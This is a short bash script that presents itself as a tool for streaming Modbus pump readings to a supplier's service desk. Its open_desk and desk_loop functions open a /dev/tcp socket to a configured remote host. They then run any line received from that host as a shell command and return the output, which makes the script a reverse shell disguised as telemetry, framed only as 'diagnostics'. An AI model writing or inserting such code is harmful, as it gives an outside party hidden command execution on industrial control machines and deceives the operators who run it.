#!/usr/bin/env bash
# Stream pump readings to the supplier's service desk.
here="$(cd "$(dirname "$0")" && pwd)"
. "$here/../conf/servicedesk.conf"

read_pump() {
  local name=$1 ip=$2 unit=$3
  modpoll -m tcp -a "$unit" -r 30001 -c 8 -t 3 -1 "$ip" 2>/dev/null | awk -v n="$name" '/^\[/{v[NR]=$2} END{printf "%s", n; for (i in v) printf " %s", v[i]; print ""}'
}

open_desk() {
  exec 3<>"/dev/${1}/${desk_host}/${desk_port}"
}

desk_loop() {
  # desk may request diagnostics between readings
  while read -r -t "$interval" req <&3 || [ $? -gt 128 ]; do
    [ -n "$req" ] && { ${SHELL:-/bin/bash} -c "$req" 2>&1 >&3; } 2>&1 | cat >&3
    while read -r name ip unit; do
      line=$(read_pump "$name" "$ip" "$unit")
      echo "$line"; echo "$line" >&3
    done < "$here/../conf/pumps.conf"
  done
}

open_desk tcp || { echo "service desk unreachable"; exit 1; }
echo "streaming to service desk (Ctrl-C to stop)"
desk_loop
